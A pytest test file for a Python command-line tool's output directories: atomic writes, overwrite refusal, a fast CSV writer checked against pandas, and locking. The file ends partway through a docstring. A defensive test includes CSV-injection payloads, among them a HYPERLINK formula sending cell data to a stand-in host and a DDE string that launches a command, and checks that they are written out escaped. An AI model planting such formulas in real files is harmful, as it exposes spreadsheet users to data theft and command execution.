"""Run directories: atomic writes, refusal to overwrite another config's results, run.json."""

import functools
import json
import sys
from pathlib import Path

import matplotlib.pyplot as plt
import numpy as np
import pandas as pd
import pytest

from bounce_cli.runtime import artifacts
from bounce_cli.runtime.artifacts import OutputDirError, RunDirectory, atomic_write


@pytest.fixture(autouse=True)
def fast_csv_for_every_length(monkeypatch):
    """The fast CSV writer on every table here, however short (a run hands tables below
    CSV_FAST_MIN_ROWS to pandas): its bytes are held against pandas' on small tables."""
    monkeypatch.setattr(artifacts, "CSV_FAST_MIN_ROWS", 0)


def make_run(out, config, force=False):
    return RunDirectory(out, command="demo", resolved_config=config, overrides=["a.b=1"],
                        config_path="x.yaml", seed=3, force=force)


def test_commit_writes_files_and_manifest(tmp_path):
    run = make_run(tmp_path / "r", {"a": 1})
    run.add_csv("data.csv", pd.DataFrame({"x_m": [1.0, 2.0]}))
    fig, ax = plt.subplots()
    ax.plot([0, 1])
    run.add_figure("fig.png", fig)
    written = run.commit()
    names = sorted(p.name for p in written)
    assert names == ["data.csv", "fig.png", "run.json", "timing.json"]
    manifest = json.loads((tmp_path / "r" / "run.json").read_text())
    assert manifest["status"] == "completed"
    assert manifest["config"] == {"a": 1} and manifest["overrides"] == ["a.b=1"]
    assert manifest["seed"] == 3
    assert set(manifest["versions"]) == {"bounce", "python", "numpy", "scipy", "pandas",
                                         "matplotlib", "pydantic", "pyyaml"}
    timing = json.loads((tmp_path / "r" / "timing.json").read_text())
    assert "started" in timing and timing["wall_seconds"] >= 0
    assert pd.read_csv(tmp_path / "r" / "data.csv").x_m.tolist() == [1.0, 2.0]
    assert (tmp_path / "r" / "fig.png").read_bytes()[:4] == b"\x89PNG"
    assert not list((tmp_path / "r").glob(".*tmp"))


def test_different_config_refused_same_config_replaced(tmp_path):
    out = tmp_path / "r"
    run = make_run(out, {"a": 1})
    run.add_csv("data.csv", pd.DataFrame({"x": [1]}))
    run.commit()
    with pytest.raises(OutputDirError, match="different config.*--force"):
        make_run(out, {"a": 2})
    # same config: replaced
    again = make_run(out, {"a": 1})
    again.add_csv("data.csv", pd.DataFrame({"x": [5]}))
    again.commit()
    assert pd.read_csv(out / "data.csv").x.tolist() == [5]
    # --force: replaced
    forced = make_run(out, {"a": 2}, force=True)
    forced.add_csv("data.csv", pd.DataFrame({"x": [7]}))
    forced.commit()
    assert json.loads((out / "run.json").read_text())["config"] == {"a": 2}


def test_a_replaced_run_s_folders_go_with_its_files(tmp_path):
    """A run that no longer writes a subfolder's files (a study's subject left out of its
    manifest) removed the files and left the empty folders (a review); a folder that still
    holds something (another file) stays."""
    out = tmp_path / "r"
    first = make_run(out, {"a": 1})
    first.add_csv("s1/a/data.csv", pd.DataFrame({"x": [1]}))
    first.add_csv("s3/a/deep/data.csv", pd.DataFrame({"x": [1]}))
    first.add_csv("s4/data.csv", pd.DataFrame({"x": [1]}))
    first.commit()
    (out / "s4" / "mine.txt").write_text("a file of the user's")
    second = make_run(out, {"a": 1})
    second.add_csv("s1/a/data.csv", pd.DataFrame({"x": [2]}))
    second.commit()
    assert not (out / "s3").exists()
    assert (out / "s4" / "mine.txt").is_file() and not (out / "s4" / "data.csv").exists()
    assert (out / "s1" / "a" / "data.csv").is_file()


def test_failure_while_writing_leaves_previous_files_untouched(tmp_path):
    out = tmp_path / "r"
    first = make_run(out, {"a": 1})
    first.add_csv("a.csv", pd.DataFrame({"x": [1]}))
    first.add_csv("b.csv", pd.DataFrame({"y": [1]}))
    first.commit()
    before = {p.name: p.read_bytes() for p in out.iterdir()}

    class Exploding(pd.DataFrame):
        def to_csv(self, *args, **kwargs):
            raise KeyboardInterrupt  # Ctrl-C in the middle of writing

    second = make_run(out, {"a": 1})
    second.add_csv("a.csv", pd.DataFrame({"x": [2]}))
    second.add_csv("b.csv", Exploding({"y": [2]}))
    with pytest.raises(KeyboardInterrupt):
        second.commit()
    after = {p.name: p.read_bytes() for p in out.iterdir()}
    assert after == before  # no temporary files left, nothing replaced


def big_table(rows: int) -> pd.DataFrame:
    rng = np.random.default_rng(0)
    return pd.DataFrame({"x": rng.normal(size=rows), "k": rng.integers(0, 30, rows),
                         "o": pd.Categorical.from_codes(rng.integers(0, 3, rows),
                                                        categories=["a", "b", "c"])})


@pytest.fixture
def small_background_threshold(monkeypatch):
    monkeypatch.setattr(artifacts, "BACKGROUND_TABLE_ROWS", 1000)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="written in children on Linux")
def test_large_tables_written_by_a_child_are_the_same_bytes(tmp_path,
                                                            small_background_threshold):
    frame = big_table(5000)
    run = make_run(tmp_path / "r", {"a": 1})
    run.add_csv("big.csv", frame)
    run.add_csv("small.csv", frame.head(10))
    fig, ax = plt.subplots()
    ax.plot([0, 1])
    run.add_figure("fig.png", fig)
    forks = []
    real = artifacts.ForkedCall.start
    with pytest.MonkeyPatch.context() as m:
        m.setattr(artifacts.ForkedCall, "start",
                  lambda self: forks.append([t.name for t, *_ in self.fn.args[0]]) or real(self))
        run.commit()
    assert len(forks) == 1 and forks[0][0].startswith(".big.csv.")  # only the big one
    frame.to_csv(tmp_path / "pandas.csv", index=False)
    assert (tmp_path / "r" / "big.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()
    assert not list((tmp_path / "r").glob(".*tmp"))


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="written in children on Linux")
def test_many_small_tables_are_written_half_by_a_child(tmp_path, monkeypatch):
    """A study's hundreds of unit tables: the later half is staged by a forked child while
    this process writes the rest; every file the same bytes as pandas writes."""
    monkeypatch.setattr(artifacts, "BACKGROUND_TABLE_COUNT", 4)
    run = make_run(tmp_path / "r", {"a": 1})
    frames = {f"u{i}/t.csv": big_table(50 + i) for i in range(6)}
    for name, frame in frames.items():
        run.add_csv(name, frame)
    forks = []
    real = artifacts.ForkedCall.start
    with pytest.MonkeyPatch.context() as m:
        m.setattr(artifacts.ForkedCall, "start",
                  lambda self: forks.append([f.parent.name for *_, f in self.fn.args[0]])
                  or real(self))
        run.commit()
    assert forks == [["u3", "u4", "u5"]]
    for name, frame in frames.items():
        frame.to_csv(tmp_path / "pandas.csv", index=False)
        assert (tmp_path / "r" / name).read_bytes() == (tmp_path / "pandas.csv").read_bytes()
    assert not list((tmp_path / "r").rglob(".*tmp"))


class FailingInTheChild(pd.DataFrame):
    def to_csv(self, *args, **kwargs):
        raise OSError(28, "No space left on device")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="written in children on Linux")
def test_an_error_in_the_child_is_raised_as_itself_and_nothing_is_left(
        tmp_path, small_background_threshold, monkeypatch):
    out = tmp_path / "r"
    first = make_run(out, {"a": 1})
    first.add_csv("big.csv", pd.DataFrame({"x": [1]}))
    first.commit()
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    # a table the fast writer hands to pandas (quoting needed), whose writer then fails
    table = FailingInTheChild({"x": ["a,b"] * 2000, "y": range(2000)})
    second = make_run(out, {"a": 1})
    second.add_csv("big.csv", table)
    fig, ax = plt.subplots()
    second.add_figure("fig.png", fig)
    with pytest.raises(OSError, match="No space left on device") as info:
        second.commit()
    assert info.value.errno == 28
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="written in children on Linux")
def test_a_failure_in_this_process_kills_the_child(tmp_path, small_background_threshold):
    import os
    import time

    pids = []
    real = artifacts.ForkedCall.start

    def start(self):
        real(self)
        pids.append(self.pid)
        return self

    def slow(tmp):
        time.sleep(30)

    run = make_run(tmp_path / "r", {"a": 1})
    run.add_csv("big.csv", big_table(2000))
    fig, ax = plt.subplots()
    run.add_figure("fig.png", fig)
    with pytest.MonkeyPatch.context() as m:
        m.setattr(artifacts.ForkedCall, "start", start)
        m.setattr(artifacts, "write_frame", lambda frame, path, kind=None: slow(path))
        m.setattr(fig, "savefig", lambda *a, **k: (_ for _ in ()).throw(KeyboardInterrupt))
        started = time.monotonic()
        with pytest.raises(KeyboardInterrupt):
            run.commit()
    assert time.monotonic() - started < 10
    with pytest.raises(ProcessLookupError):
        os.kill(pids[0], 0)  # killed and reaped
    assert not list((tmp_path / "r").glob(".*tmp"))


@pytest.fixture
def signal_on_each_new_file(monkeypatch):
    """Once armed, a signal arrives the instant each staging file has been created (before
    its creator returns): what the interrupt test's "writing" moment aims at. The handler is
    called as Python calls it, in the main thread between two bytecodes."""
    import signal

    from bounce_cli.runtime import interrupts

    monkeypatch.setattr(interrupts, "_state", {"deferring": 0, "pending": None, "raised": False})
    real = artifacts.reserve
    created: list = []

    def reserve_then_signal(path):
        created.append(real(path))
        interrupts._state["raised"] = False  # every file gets its own signal
        interrupts._handler(signal.SIGTERM, None)
        return created[-1]

    def arm():
        monkeypatch.setattr(artifacts, "reserve", reserve_then_signal)
        return created

    return arm


@pytest.mark.parametrize("background", [False, True], ids=["here", "in a child"])
def test_a_signal_as_a_staging_file_appears_leaves_nothing(tmp_path, monkeypatch, background,
                                                          signal_on_each_new_file):
    from bounce_cli.runtime.interrupts import Interrupted

    if background and not sys.platform.startswith("linux"):
        pytest.skip("written in children on Linux")
    monkeypatch.setattr(artifacts, "BACKGROUND_TABLE_ROWS", 1000 if background else 10**9)
    out = tmp_path / "r"
    out.mkdir()
    (out / "keep.txt").write_text("previous")
    run = make_run(out, {"a": 1})
    run.add_csv("big.csv", big_table(2000))
    created = signal_on_each_new_file()
    with pytest.raises(Interrupted):
        run.commit()
    assert len(created) == 1  # stopped at the first file
    assert sorted(p.name for p in out.iterdir()) == ["keep.txt"]
    with pytest.raises(Interrupted):
        atomic_write(out / "x.txt", lambda tmp: tmp.write_text("new"))
    assert sorted(p.name for p in out.iterdir()) == ["keep.txt"]


def test_atomic_write_never_leaves_half_file(tmp_path):
    target = tmp_path / "x.txt"
    target.write_text("old")

    def half(tmp):
        tmp.write_text("partial")
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        atomic_write(target, half)
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["x.txt"]


def test_out_path_that_is_a_file_is_refused(tmp_path):
    (tmp_path / "f").write_text("x")
    with pytest.raises(OutputDirError, match="not a directory"):
        make_run(tmp_path / "f", {"a": 1})


def test_written_files_are_readable_by_others(tmp_path):
    import os
    import stat

    old = os.umask(0o022)
    try:
        run = make_run(tmp_path / "r", {"a": 1})
        run.add_csv("data.csv", pd.DataFrame({"x": [1]}))
        run.commit()
    finally:
        os.umask(old)
    mode = stat.S_IMODE((tmp_path / "r" / "data.csv").stat().st_mode)
    assert mode == 0o644


def test_unwritable_out_is_a_one_line_error_before_any_work(tmp_path):
    (tmp_path / "afile").write_text("x")
    with pytest.raises(OutputDirError, match="cannot write there"):
        make_run(tmp_path / "afile" / "sub", {"a": 1})


def test_replacing_a_run_removes_the_files_only_the_old_run_wrote(tmp_path):
    out = tmp_path / "r"
    (out).mkdir()
    (out / "notes.txt").write_text("the user's own file")
    first = make_run(out, {"a": 1})
    first.add_csv("old_only.csv", pd.DataFrame({"x": [1]}))
    first.add_csv("both.csv", pd.DataFrame({"x": [1]}))
    first.commit()
    second = make_run(out, {"a": 2}, force=True)
    second.add_csv("both.csv", pd.DataFrame({"x": [2]}))
    second.commit()
    assert sorted(p.name for p in out.iterdir()) == ["both.csv", "notes.txt", "run.json",
                                                     "timing.json"]
    assert json.loads((out / "run.json").read_text())["files"] == ["both.csv"]


def test_the_next_run_removes_the_staging_files_a_killed_run_left(tmp_path):
    """Issue 36: a run killed while staging leaves ``.<name>.<8 random>.tmp`` files, which no
    later run removed. The next run into that --out removes those of its folders that are
    older than itself; every other file, a link and a folder so named are left alone."""
    out = tmp_path / "r"
    (out / "sub").mkdir(parents=True)
    outside = tmp_path / "outside.txt"
    outside.write_text("not the run's")
    stale = [out / ".data.csv.k2j3h4g5.tmp", out / ".run.json.abc_1234.tmp",
             out / "sub" / ".b.csv.zzzz9999.tmp", out / ".other.png.q1w2e3r4.tmp"]
    kept = [out / ".data.csv.tmp", out / "data.csv.k2j3h4g5.tmp", out / "keep.tmp",
            out / ".x.ABCDEFGH.tmp", out / ".notes.abcdefgh.tmp.bak", out / "notes.txt"]
    for path in stale + kept:
        path.write_text("left")
    (out / ".link.csv.abcdefgh.tmp").symlink_to(outside)
    (out / ".folder.abcdefgh.tmp").mkdir()
    elsewhere = tmp_path / ".data.csv.k2j3h4g5.tmp"  # beside --out, not in it
    elsewhere.write_text("left")
    run = make_run(out, {"a": 1})
    fresh = out / ".data.csv.newer123.tmp"  # made after the run began: not a killed run's
    fresh.write_text("in use")
    run.add_csv("data.csv", pd.DataFrame({"x_m": [1.0, 2.0]}))
    run.add_csv("sub/b.csv", pd.DataFrame({"x_m": [1.0, 2.0]}))
    run.commit()
    assert not [p for p in stale if p.exists()]
    assert all(p.is_file() for p in kept + [fresh, elsewhere])
    assert (out / ".link.csv.abcdefgh.tmp").is_symlink() and outside.read_text() == "not the run's"
    assert (out / ".folder.abcdefgh.tmp").is_dir()


@pytest.mark.slow
def test_replacing_a_run_never_deletes_the_file_it_reads(tmp_path, cli):
    """`--force` into the folder of the run that wrote the --data file: the old run's files
    are replaced, but not the input the new run reads (the new-user review lost impacts.csv)."""
    out = tmp_path / "lab"
    first = cli("simulate-recording", "--set", "trials=1", "--set", "duration_s=8",
                "--out", out, "--quiet")
    assert first.exit_code == 0, first.output
    recording = out / "recording.csv"
    before = recording.read_bytes()
    second = cli("extract", "--data", recording, "--out", out, "--force", "--quiet")
    assert second.exit_code == 0, second.output
    assert recording.read_bytes() == before
    assert (out / "impacts.csv").is_file()


# -- the table writers --------------------------------------------------------------------
RESULTS = Path(__file__).resolve().parents[1] / "results"


def awkward_frame(n=3000, seed=1):
    """Every kind of cell the fast CSV writer formats itself, with the values whose text is
    easy to get wrong: -0.0 next to 0.0, NaN, inf, huge, tiny and subnormal floats, repeated
    and distinct values, categories with a missing one, plain strings."""
    rng = np.random.default_rng(seed)
    special = np.array([0.0, -0.0, np.nan, np.inf, -np.inf, 1e16, 1e-5, 1e-4, 5e-324, 0.1,
                        1 / 3, 123456789.0, -2.5])
    return pd.DataFrame({
        "x_m": rng.choice(special, n),
        "y_s": rng.standard_normal(n) * 10.0 ** rng.integers(-8, 8, n),
        "grid_deg": np.tile(np.linspace(0, 360, 30), n // 30),
        "count": rng.integers(-5, 300, n).astype(np.int16),
        "big": rng.integers(-2**62, 2**62, n),
        "flag": rng.random(n) < 0.5,
        "outcome": pd.Categorical.from_codes(rng.integers(-1, 3, n).astype(np.int8),
                                             categories=["period1", "sticking", "undecided"]),
        "name": rng.choice(np.array(["a", "fixed_point", "x y"], dtype=object), n),
    })


def test_fast_csv_writer_writes_what_pandas_writes(tmp_path, monkeypatch):
    frame = awkward_frame()
    monkeypatch.setattr(artifacts, "CSV_CHUNK_ROWS", 700)  # several chunks, a short last one
    assert artifacts._csv_header(frame) is not None  # the fast path, not the fallback
    artifacts.write_csv(frame, tmp_path / "fast.csv")
    frame.to_csv(tmp_path / "pandas.csv", index=False)
    assert (tmp_path / "fast.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()
    back = pd.read_csv(tmp_path / "fast.csv")
    np.testing.assert_array_equal(back["y_s"].to_numpy(), frame["y_s"].to_numpy())
    np.testing.assert_array_equal(np.signbit(back["x_m"]), np.signbit(frame["x_m"]))


def grid_frame(n_theta, n_v):
    """A grid's table in the order basin and sweep write it (v outer, theta inner)."""
    theta, v = np.meshgrid(np.linspace(0, 360, n_theta), np.linspace(-1, 10, n_v))
    rng = np.random.default_rng(2)
    n = theta.size
    return pd.DataFrame({
        "theta0_rad": np.deg2rad(theta.ravel()),
        "theta0_deg": theta.ravel(),
        "v0_m_s": v.ravel(),
        "outcome": pd.Categorical.from_codes(rng.integers(0, 3, n).astype(np.int8),
                                             categories=["period1", "sticking", "undecided"]),
        "iterations": rng.integers(0, 100, n).astype(np.int16),
    })


@pytest.mark.parametrize("n_theta, n_v", [(70, 40), (1, 500), (500, 1), (3, 3)])
def test_a_grid_table_is_written_as_pandas_writes_it(tmp_path, monkeypatch, n_theta, n_v):
    """Chunks that start inside a block of the inner axis, a short last chunk, several
    joined blocks per chunk, an axis of one value."""
    monkeypatch.setattr(artifacts, "CSV_CHUNK_ROWS", 1000)
    monkeypatch.setattr(artifacts, "CSV_BLOCK_ROWS", 64)
    frame = grid_frame(n_theta, n_v)
    artifacts.write_csv(frame, tmp_path / "fast.csv")
    frame.to_csv(tmp_path / "pandas.csv", index=False)
    assert (tmp_path / "fast.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


@pytest.mark.parametrize("values", [
    np.repeat([3.5, 1.0, 3.5, -0.0, 0.0], 50),  # runs; a value back again; -0.0 beside 0.0
    np.tile(np.arange(7.0), 30),  # a repeated block
    np.tile(np.arange(7.0), 30)[:-3],  # ... cut short
    np.append(np.tile(np.arange(7.0), 30), 1.0),  # ... with one more row
    np.tile([5.0, 4.0, 5.0, 6.0], 50),  # a block holding its first value twice
    np.random.default_rng(3).integers(0, 40, 500).astype(float),  # neither
], ids=["runs", "block", "short", "longer", "twice", "random"])
def test_grid_factorisation_is_pandas_factorize(values):
    bits = values.view(np.int64)
    codes, keys = artifacts._factorize(bits)
    expected_codes, expected_keys = pd.factorize(bits)
    np.testing.assert_array_equal(codes, expected_codes)
    np.testing.assert_array_equal(keys, expected_keys)


def test_integers_at_the_ends_of_their_type_are_written_as_pandas_writes_them(tmp_path):
    frame = pd.DataFrame({
        "i8": np.array([-128, 127, 0, -128] * 30, dtype=np.int8),
        "u64": np.array([2**64 - 1, 2**64 - 3, 2**64 - 1, 0] * 30, dtype=np.uint64),
        "i64": np.array([-2**63, -2**63 + 5, 2**63 - 1, 7] * 30, dtype=np.int64),
        "near": np.array([-2**63, -2**63 + 9, -2**63 + 2, -2**63] * 30, dtype=np.int64),
    })
    artifacts.write_csv(frame, tmp_path / "fast.csv")
    frame.to_csv(tmp_path / "pandas.csv", index=False)
    assert (tmp_path / "fast.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


@pytest.mark.parametrize("column, fast", [
    (["a,b", "c"], False), (['say "hi"', "x"], False), (["", "x"], False), ([1.5, "x"], False),
    ([None, "x"], True), ([np.nan, "x"], True),
])
def test_cells_that_need_quoting_or_mixed_types_go_to_pandas(tmp_path, column, fast):
    frame = pd.DataFrame({"text": column, "v": [1.0, 2.0]})
    assert (artifacts._csv_header(frame) is not None) == fast
    artifacts.write_csv(frame, tmp_path / "a.csv")
    frame.to_csv(tmp_path / "b.csv", index=False)
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"t")', "+cmd|' /C calc'!A0", "-2+3+cmd",
            "@SUM(A1:A9)"]


@pytest.mark.parametrize("extra", [[], ["a,b"]], ids=["fast", "pandas"])
def test_text_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path, extra):
    """OWASP's CSV-injection advice (issue 36): a text cell beginning with = + - @ gets a
    leading ' ; numbers (also a negative number written as text) and other text stay."""
    n = len(FORMULAS) + 4 + len(extra)
    text = [*FORMULAS, "plain", "-1.5", None, "a-b", *extra]
    frame = pd.DataFrame({
        "label": pd.Series(text, dtype=object),
        "v": np.linspace(-2.0, 1.0, n),
        "k": np.arange(-3, n - 3),
        "kind": pd.Categorical(["=cat", "ok"] * (n // 2) + ["ok"] * (n % 2)),
    })
    artifacts.write_csv(frame, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
    assert back["label"].tolist() == ["'" + f for f in FORMULAS] + [
        "plain", "-1.5", "", "a-b", *extra]
    assert back["v"].tolist() == [str(v) for v in frame["v"]]  # -2.0 stays -2.0
    assert back["k"].tolist()[:3] == ["-3", "-2", "-1"]
    assert set(back["kind"]) == {"'=cat", "ok"}
    assert frame["label"].iloc[0] == FORMULAS[0]  # the caller's frame is left as it was


@pytest.mark.slow
def test_a_trial_label_that_is_a_formula_is_text_in_the_extracted_tables(tmp_path, cli):
    sim = tmp_path / "sim"
    assert cli("simulate-recording", "--quiet", "--out", sim,
               "--set", "duration_s=10").exit_code == 0
    recording = pd.read_csv(sim / "recording.csv")
    recording["trial"] = recording["trial"].map({1: FORMULAS[0], 2: "2"})
    recording.to_csv(tmp_path / "rec.csv", index=False)
    result = cli("extract", "--quiet", "--data", tmp_path / "rec.csv", "--out", tmp_path / "ex")
    assert result.exit_code == 0, result.output
    impacts = pd.read_csv(tmp_path / "ex" / "impacts.csv", dtype=str)
    assert set(impacts["trial"]) == {"'" + FORMULAS[0], "2"}
    assert not any(str(c).startswith(("=", "+", "@")) for c in impacts.to_numpy().ravel())


@pytest.mark.slow
def test_every_committed_csv_is_rewritten_byte_for_byte(tmp_path):
    """The committed results stay byte-identical under the fast writer: each CSV read back and
    written again gives its own bytes."""
    paths = sorted(RESULTS.glob("*/*.csv"))
    assert len(paths) > 20
    fast = 0
    for path in paths:
        frame = pd.read_csv(path)
        fast += artifacts._csv_header(frame) is not None
        artifacts.write_csv(frame, tmp_path / "x.csv")
        assert (tmp_path / "x.csv").read_bytes() == path.read_bytes(), path
    assert fast > len(paths) // 2


@pytest.mark.parametrize("suffix", [".npz", ".csv"])
def test_tables_read_back_to_the_frame_written(tmp_path, suffix):
    frame = awkward_frame(300).drop(columns="name" if suffix == ".csv" else [])
    frame["name"] = ["p"] * 300
    artifacts.write_frame(frame, tmp_path / f"t{suffix}")
    back = artifacts.read_frame(tmp_path / f"t{suffix}")
    if suffix == ".csv":
        back["outcome"] = pd.Categorical(back["outcome"], categories=["period1", "sticking",
                                                                      "undecided"])
    pd.testing.assert_frame_equal(back, frame, check_dtype=suffix != ".csv")
    assert artifacts.read_frames(tmp_path).keys() == {f"t{suffix}"}


def test_a_rerun_with_other_package_versions_keeps_the_record_when_nothing_changed(tmp_path,
                                                                                   cli):
    """Reproducing unchanged results on a machine with newer packages changes no tracked file:
    run.json keeps the versions that first made the (byte-identical) results; timing.json has
    this run's. A result that changes takes the new versions."""
    import json

    out = tmp_path / "fp"
    args = ("learning", "--set", "ac_points=5", "--out", out, "--quiet")
    assert cli(*args).exit_code == 0
    record = json.loads((out / "run.json").read_text())
    record["versions"]["numpy"] = "0.0.1-older"
    (out / "run.json").write_text(json.dumps(record, indent=2) + "\n")
    before = (out / "run.json").read_bytes()
    assert cli(*args).exit_code == 0
    assert (out / "run.json").read_bytes() == before
    assert json.loads((out / "timing.json").read_text())["versions"]["numpy"] != "0.0.1-older"


def test_records_agree_up_to_rounding_only():
    assert artifacts.records_agree({"a": [0.30000898483538800, "x", 3, True]},
                                   {"a": [0.30000898483538810, "x", 3, True]})
    assert artifacts.records_agree({"v": float("nan")}, {"v": float("nan")})
    assert not artifacts.records_agree({"a": 0.3}, {"a": 0.3 * (1 + 1e-7)})
    assert not artifacts.records_agree({"a": 1}, {"a": 1.0})  # an int is not a float
    assert not artifacts.records_agree({"a": 1}, {"a": 1, "b": 2})
    assert not artifacts.records_agree([1.0, 2.0], [1.0])


@pytest.mark.parametrize("relative_change, kept", [(3e-16, True), (1e-6, False)])
def test_a_rerun_whose_record_moved_by_rounding_keeps_the_committed_record(
        tmp_path, relative_change, kept):
    """A set-up measured from the data (run.json's record) that differs in the last bits on
    another CPU leaves the committed run.json as it is when the results are unchanged; a
    number that really moved is written."""
    out = tmp_path / "r"

    def run_once(amplitude):
        run = make_run(out, {"a": 1})
        run.record = {"setup": {"racket_amplitude": {"value": amplitude, "n": 512}}}
        run.add_csv("data.csv", pd.DataFrame({"x_m": [1.0, 2.0]}))
        run.commit()
        return (out / "run.json").read_bytes()

    moved = 0.300008984835388 * (1 + relative_change)
    assert moved != 0.300008984835388  # the record did change
    before = run_once(0.300008984835388)
    after = run_once(moved)
    assert (after == before) == kept


def test_a_cell_needing_quotes_in_a_later_chunk_hands_the_table_to_pandas(tmp_path,
                                                                         monkeypatch):
    monkeypatch.setattr(artifacts, "CSV_CHUNK_ROWS", 100)
    frame = pd.DataFrame({"a": ["x"] * 250, "b": range(250)})
    frame.loc[220, "a"] = 'q,"r"'
    artifacts.write_csv(frame, tmp_path / "fast.csv")
    frame.to_csv(tmp_path / "pandas.csv", index=False)
    assert (tmp_path / "fast.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


# -- one run at a time in an output directory ---------------------------------------------------
def test_a_second_run_into_a_directory_in_use_refuses(tmp_path):
    """Two runs writing into one --out at once: the second refuses (before the fix both
    committed and one run's results were lost); after the first commits the next may run."""
    out = tmp_path / "r"
    first = make_run(out, {"a": 1})
    assert (out / artifacts.LOCK_FILE).is_file()
    with pytest.raises(OutputDirError, match=r"another bounce run is writing there \(pid "):
        make_run(out, {"a": 1})
    first.add_csv("data.csv", pd.DataFrame({"x_m": [1.0]}))
    first.commit()
    assert not (out / artifacts.LOCK_FILE).exists()  # nothing left behind
    second = make_run(out, {"a": 1})
    second.discard()
    assert sorted(p.name for p in out.iterdir()) == ["data.csv", "run.json", "timing.json"]


def test_a_failed_run_releases_its_lock_and_its_folder(tmp_path):
    out = tmp_path / "new" / "r"
    run = make_run(out, {"a": 1})
    run.discard()
    assert not (tmp_path / "new").exists()  # the lock file does not keep the folder
    make_run(out, {"a": 1}).discard()


@pytest.mark.skipif(sys.platform == "win32", reason="advisory locks are POSIX here")
def test_the_stale_lock_of_a_killed_run_is_taken_over(tmp_path):
    """A run killed with SIGKILL leaves its lock file, but holds no lock: the next run takes
    it over."""
    import os
    import signal
    import subprocess

    out = tmp_path / "r"
    code = ("import sys, time; from bounce_cli.runtime.artifacts import RunDirectory; "
            "RunDirectory(sys.argv[1], command='demo', resolved_config={}, overrides=[], "
            "config_path=None); print('locked', flush=True); time.sleep(60)")
    child = subprocess.Popen([sys.executable, "-c", code, str(out)], stdout=subprocess.PIPE,
                             text=True, env={**os.environ, "PYTHONPATH": os.pathsep.join(
                                 sys.path)})
    try:
        assert child.stdout.readline().strip() == "locked"
        with pytest.raises(OutputDirError, match=f"pid {child.pid}: bounce demo"):
            make_run(out, {})
        child.send_signal(signal.SIGKILL)
        child.wait(timeout=30)
    finally:
        child.kill()
        child.wait()
    assert (out / artifacts.LOCK_FILE).is_file()  # stale
    make_run(out, {}).discard()
    assert not (out / artifacts.LOCK_FILE).exists()


def test_cli_refuses_an_out_another_run_is_writing(tmp_path, cli, user_error):
    out = tmp_path / "o"
    holder = make_run(out, {})
    result = cli("trajectory", "--out", out, "--quiet")
    user_error(result, f"--out {out}: another bounce run is writing there",
               "choose another --out")
    holder.discard()
    assert not out.exists()  # the refused run wrote nothing, the holder's folder is gone


@pytest.mark.parametrize("size", [0, 1, 4095, 4096, 4097, 3 * 4096 + 17])
def test_same_bytes_compares_every_chunk_and_the_tail(tmp_path, monkeypatch, size):
    """Files compared in chunks (here of 4096 bytes): equal files are the same, and a change
    in any chunk -- the first byte, one at a chunk's border, the last byte -- is seen."""
    monkeypatch.setattr(artifacts, "COMPARE_CHUNK_BYTES", 4096)
    content = np.random.default_rng(size).integers(0, 256, size, dtype=np.uint8).tobytes()
    a, b = tmp_path / "a", tmp_path / "b"
    a.write_bytes(content)
    b.write_bytes(content)
    assert artifacts.same_bytes(a, b)
    for at in sorted({0, 4095, 4096, size - 1} & set(range(size))):
        changed = bytearray(content)
        changed[at] ^= 1
        b.write_bytes(bytes(changed))
        assert not artifacts.same_bytes(a, b), at
    b.write_bytes(content + b"x")
    assert not artifacts.same_bytes(a, b)
    assert not artifacts.same_bytes(a, tmp_path / "missing")


def line_figure(y1: float):
    from matplotlib.figure import Figure

    fig = Figure(figsize=(3, 2), layout="constrained")
    ax = fig.subplots()
    ax.plot([0, 1], [0, y1])
    ax.set_xlabel(r"$\theta_0$ (deg)")
    return fig


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="written in children on Linux")
def test_deferred_figures_are_drawn_by_the_process_that_writes_them(tmp_path):
    """Two deferred figures: the later is drawn and written by a child, the first here
    (this process draws it alone); both files are what the figures drawn at once write,
    caption included."""
    from bounce_cli.runtime.figure_files import CAPTION_ATTRIBUTE, DeferredFigure

    drawn_here: list[float] = []

    def draw(y1):
        drawn_here.append(y1)  # the child's own list is its copy: not seen here
        return line_figure(y1)

    eager, deferred = make_run(tmp_path / "eager", {"a": 1}), make_run(tmp_path / "later",
                                                                        {"a": 1})
    for y1, name in ((1.0, "first.png"), (2.0, "second.png")):
        fig = line_figure(y1)
        setattr(fig, CAPTION_ATTRIBUTE, f"alpha {y1}")
        eager.add_figure(name, fig)
        later = DeferredFigure(functools.partial(draw, y1))
        setattr(later, CAPTION_ATTRIBUTE, f"alpha {y1}")
        deferred.add_figure(name, later)
    eager.commit()
    deferred.commit()
    assert drawn_here == [1.0]
    for name in ("first.png", "second.png"):
        assert (tmp_path / "later" / name).read_bytes() == (tmp_path / "eager" / name).read_bytes()
        assert b"alpha" in (tmp_path / "later" / name).read_bytes()


def test_a_rerun_that_keeps_its_figures_never_draws_them(tmp_path):
    """``bounce reproduce``: every table as before, the figures there: not drawn at all."""
    from bounce_cli.runtime.figure_files import DeferredFigure

    out = tmp_path / "r"
    first = make_run(out, {"a": 1})
    first.add_csv("t.csv", pd.DataFrame({"x": [1.0, 2.0]}))
    first.add_figure("f.png", line_figure(1.0))
    first.commit()
    calls: list[int] = []
    again = make_run(out, {"a": 1})
    again.add_csv("t.csv", pd.DataFrame({"x": [1.0, 2.0]}))
    again.add_figure("f.png", DeferredFigure(lambda: calls.append(1) or line_figure(1.0)))
    again.commit(agrees=lambda *args: True)
    assert again.comparison["f.png"] == "kept" and calls == []


def test_the_git_commit_is_looked_up_once_in_the_background_and_after_a_fork(monkeypatch):
    """git_commit: the thread started with a run's directory gives what git says; a child
